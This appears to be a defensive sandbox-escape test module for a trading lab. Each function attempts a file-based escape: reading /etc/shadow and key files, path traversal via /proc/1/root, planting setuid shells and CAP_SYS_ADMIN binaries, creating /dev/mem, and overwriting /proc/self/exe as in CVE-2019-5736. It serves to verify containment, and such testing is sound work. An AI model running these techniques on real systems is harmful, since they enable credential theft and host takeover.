"""Attacks on files: read what is not given, write what is only shown, lay traps for the server."""

from __future__ import annotations

import ctypes
import fcntl
import mmap
import os
import shutil
import stat
import struct
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.sandbox.escapes.contract import Contained, World, attack, try_all

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, AT_EMPTY_PATH = -100, 0x1000
F_SETLEASE = 1024
FS_IOC_GETFLAGS, FS_IOC_SETFLAGS, IMMUTABLE = 0x80086601, 0x40086602, 0x10


def check(result: int) -> int:
    """The result of a call of libc's, or OSError."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def read(path: str, mark: str) -> str:
    """Evidence that a file can be read, and holds the mark."""
    content = Path(path).read_bytes()[: 1 << 20]
    if mark.encode() not in content:
        raise Contained(f"{path} does not hold the mark")
    return f"{path} was read"


def read_all_below(folder: str, mark: str) -> str:
    """Evidence that some file below a folder can be read, and holds the mark."""
    paths = [str(path) for path in Path(folder).rglob("*") if path.is_file()]
    if not paths:
        os.listdir(folder)
        raise Contained(f"{folder} is empty")
    return try_all(partial(read, path, mark) for path in paths)


def write(path: str) -> str:
    """Evidence that a file can be changed or made."""
    with open(path, "ab") as file:
        file.write(b"#")
    return f"{path} was written"


@attack()
def read_a_file_of_the_host(world: World) -> str:
    return read(world.secret, world.mark)


@attack(only_root=True)
def read_the_password_hashes(world: World) -> str:
    with open("/etc/shadow") as file:
        return f"/etc/shadow begins with {file.readline()[:5]!r}"


@attack()
def read_the_database(world: World) -> str:
    return read(f"{world.home}/lab.db", world.mark)


@attack()
def read_anything_of_the_labs_home(world: World) -> str:
    return read_all_below(world.home, world.mark)


@attack()
def read_keys_beside_the_strategies(world: World) -> str:
    return try_all(
        partial(read, f"{world.workspace}/{name}", world.mark) for name in (".env", ".keys/key")
    )


@attack()
def read_another_kernels_files(world: World) -> str:
    return read(f"{world.other_kernel}/connection.json", "signature_scheme")


@attack()
def read_another_jobs_output(world: World) -> str:
    return read_all_below(world.other_job, world.mark)


@attack()
def climb_out_with_dots(world: World) -> str:
    dots = "/".join([".."] * 30)
    starts = (world.scratch, os.getcwd(), "/proc/self/root", "/proc/self/cwd")
    return try_all(partial(read, f"{start}/{dots}{world.secret}", world.mark) for start in starts)


@attack()
def read_through_the_root_of_process_1(world: World) -> str:
    folders = [f"/proc/{world.process_1}/{name}" for name in ("root", "cwd", "cwd/..")]
    for number in range(40):
        descriptor = f"/proc/{world.process_1}/fd/{number}"
        folders += [descriptor, f"{descriptor}/..", f"{descriptor}/../.."]
    ways = [f"{folder}{world.secret}" for folder in folders]
    return try_all(partial(read, way, world.mark) for way in ways)


@attack()
def read_an_open_file_that_was_inherited(world: World) -> str:
    def hold() -> str:
        # Outside nothing of ours was left open: there, what is opened here stands for it.
        held = os.open(world.secret, os.O_RDONLY)
        return read_descriptor(f"/proc/self/fd/{held}", world.mark)

    ways: list[Callable[[], str]] = []
    for folder in ("/proc/self/fd", f"/proc/{world.process_1}/fd"):
        try:
            names = os.listdir(folder)
        except PermissionError:
            continue
        ways += [partial(read_descriptor, f"{folder}/{name}", world.mark) for name in names]
    return try_all([*ways, hold])


def read_descriptor(path: str, mark: str) -> str:
    """Evidence that an inherited descriptor leads to a file with the mark."""
    if not stat.S_ISREG(os.stat(path).st_mode):
        raise Contained(f"{path} is no file")
    return read(path, mark)


@attack(only_root=True)
def open_a_file_by_its_handle(world: World) -> str:
    handle, mount = ctypes.create_string_buffer(8 + 128), ctypes.c_int()
    ctypes.memmove(handle, struct.pack("=Ii", 128, 0), 8)
    path = os.fsencode(world.data)
    check(libc.name_to_handle_at(AT_FDCWD, path, handle, ctypes.byref(mount), 0))
    folder = os.open(os.path.dirname(world.data), os.O_RDONLY)
    file = check(libc.open_by_handle_at(folder, handle, os.O_RDONLY))
    return f"descriptor {file} by handle"


@attack()
def write_another_strategy(world: World) -> str:
    return try_all(
        partial(write, f"{world.other}/{name}") for name in ("strategy.py", "new.py", "../new.py")
    )


@attack()
def remove_or_rename_another_strategy(world: World) -> str:
    def rename() -> str:
        os.rename(world.other, f"{world.other}-moved")
        os.rename(f"{world.other}-moved", world.other)
        return "renamed"

    def remove() -> str:
        os.unlink(f"{world.other}/strategy.py")
        return "removed"

    return try_all([rename, remove])


@attack(only_root=True)
def write_the_system_or_the_lab(world: World) -> str:
    import sysconfig

    places = ["/", "/usr", "/usr/lib", "/etc", "/lab", "/lab/alphintra_lab", "/dev", "/run"]
    places += [sysconfig.get_path("purelib"), sysconfig.get_path("stdlib")]

    def make(place: str) -> str:
        path = f"{place}/escape-{os.getpid()}"
        os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        os.unlink(path)
        return f"{path} was made"

    return try_all(partial(make, place) for place in places)


@attack()
def write_the_data(world: World) -> str:
    def reopen(how: str) -> str:
        file = os.open(world.data, os.O_RDONLY)
        return write(how.format(file))

    def map_shared() -> str:
        with open(world.data, "r+b") as file, mmap.mmap(file.fileno(), 0) as data:
            data[0] = data[0]
        return "mapped for writing"

    def change(call: Callable[[str], None]) -> str:
        call(world.data)
        return "its metadata were changed"

    tries: list[Callable[[], str]] = [
        partial(write, world.data),
        partial(reopen, "/proc/self/fd/{}"),
        partial(reopen, "/dev/fd/{}"),
        map_shared,
        partial(change, lambda path: os.chmod(path, 0o666)),
        partial(change, lambda path: os.utime(path, (0, 0))),
        partial(change, lambda path: os.truncate(path, 10)),
        partial(change, lambda path: os.unlink(path)),
    ]
    return try_all(tries)


@attack()
def link_the_data_into_a_writable_folder(world: World) -> str:
    def link(call: Callable[[str], None], folder: str) -> str:
        target = f"{folder}/hard-{os.getpid()}"
        call(target)
        os.unlink(target)
        return f"{target} is the data, in a folder that may be written"

    def by_descriptor(target: str) -> None:
        file = os.open(world.data, os.O_RDONLY)
        check(libc.linkat(file, b"", AT_FDCWD, os.fsencode(target), AT_EMPTY_PATH))

    folders = [folder for folder in (world.own, world.scratch) if folder]
    return try_all(
        partial(link, call, folder)
        for call in (partial(os.link, world.data), by_descriptor)
        for folder in folders
    )


@attack()
def lay_a_symbolic_link(world: World) -> str:
    def link(folder: str) -> str:
        path = f"{folder}/link-{os.getpid()}"
        os.symlink(world.secret, path)
        os.unlink(path)
        return f"{path} led the server to its own secret"

    folders = (world.own, "/run/kernel", world.scratch)
    return try_all(partial(link, folder) for folder in folders if folder)


@attack()
def lay_a_pipe_to_wait_for(world: World) -> str:
    path = f"{world.own or world.scratch}/pipe-{os.getpid()}"
    os.mkfifo(path)
    os.unlink(path)
    return "whoever opens it waits for ever"


@attack()
def hold_a_lease_to_wait_for(world: World) -> str:
    path = f"{world.own or world.scratch}/leased-{os.getpid()}"
    with open(path, "w") as file:
        file.write("x")
    try:
        with open(path) as file:
            fcntl.fcntl(file.fileno(), F_SETLEASE, fcntl.F_WRLCK)
            return "whoever opens it waits 45 s"
    finally:
        os.unlink(path)


@attack()
def plant_a_setuid_program(world: World) -> str:
    path = f"{world.own or world.scratch}/planted-{os.getpid()}"
    shutil.copyfile("/bin/sh", path)

    def chmod(call: Callable[[int], None], mode: int) -> str:
        call(mode)
        if os.stat(path).st_mode & 0o6000:
            return f"{path} makes whoever runs it this user, or one of its group"
        raise Contained("the bit was dropped")

    file, folder = os.open(path, os.O_RDONLY), os.open(os.path.dirname(path), os.O_RDONLY)
    calls: list[Callable[[int], None]] = [
        partial(os.chmod, path),
        partial(os.fchmod, file),
        lambda mode: os.chmod(os.path.basename(path), mode, dir_fd=folder),
    ]
    try:
        return try_all(partial(chmod, call, mode) for call in calls for mode in (0o4755, 0o2755))
    finally:
        os.unlink(path)


@attack(only_root=True)
def plant_a_program_with_capabilities(world: World) -> str:
    path = f"{world.own or world.scratch}/capable-{os.getpid()}"
    shutil.copyfile("/bin/true", path)
    try:
        # struct vfs_cap_data, version 2, effective: CAP_SYS_ADMIN
        data = struct.pack("<IIIII", 0x02000001, 1 << 21, 0, 0, 0)
        os.setxattr(path, "security.capability", data)
        return f"{path} gives CAP_SYS_ADMIN"
    finally:
        os.unlink(path)


@attack(only_root=True, lacking=("ENOTTY", "EOPNOTSUPP"))
def make_a_file_that_cannot_be_removed(world: World) -> str:
    path = f"{world.own or world.scratch}/immutable-{os.getpid()}"
    with open(path, "w") as file:
        flags = ctypes.c_int()
        fcntl.ioctl(file, FS_IOC_GETFLAGS, flags)
        try:
            fcntl.ioctl(file, FS_IOC_SETFLAGS, struct.pack("i", flags.value | IMMUTABLE))
            fcntl.ioctl(file, FS_IOC_SETFLAGS, struct.pack("i", flags.value))
        finally:
            os.unlink(path)
    return "immutable"


@attack(only_root=True)
def make_a_device(world: World) -> str:
    path = f"{world.scratch}/memory-{os.getpid()}"
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 1))
    os.unlink(path)
    return "the machine's memory as a file"


@attack(only_root=True)
def open_a_device_of_the_machine(world: World) -> str:
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "fd", "stdin"}
    harmless |= {"stdout", "stderr", "shm", "pts", "console", "core", "mqueue"}
    names = [name for name in os.listdir("/dev") if name not in harmless]
    devices = [f"/dev/{name}" for name in names if not os.path.isdir(f"/dev/{name}")]
    devices += ["/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/kvm", "/dev/net/tun"]

    def look(path: str) -> str:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
        return f"{path} was opened"

    return try_all(partial(look, path) for path in devices)


@attack(only_root=True)
def run_a_program_that_makes_root(world: World) -> str:
    """Where this is root already, it becomes nobody first."""
    if os.geteuid() == 0:
        os.setresuid(65534, 65534, 65534)
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.dup2(writer, 1)
        os.execv(world.setuid, [world.setuid, "-u"])
    os.close(writer)
    said = os.read(reader, 100).decode().strip()
    if said != "0":
        raise Contained(f"it ran as {said or 'nobody: it was not found'}")
    return "it ran as root"


@attack()
def overwrite_the_program_that_runs(world: World) -> str:
    """As CVE-2019-5736 did: through /proc/PID/exe, which leads past the mounts."""
    copy = f"{world.scratch}/own-{os.getpid()}"
    shutil.copyfile("/bin/sleep", copy)
    os.chmod(copy, 0o755)
    programs = ["/proc/1/exe", "/proc/self/exe"] if world.inside else [copy]
    return try_all(partial(write, path) for path in programs)
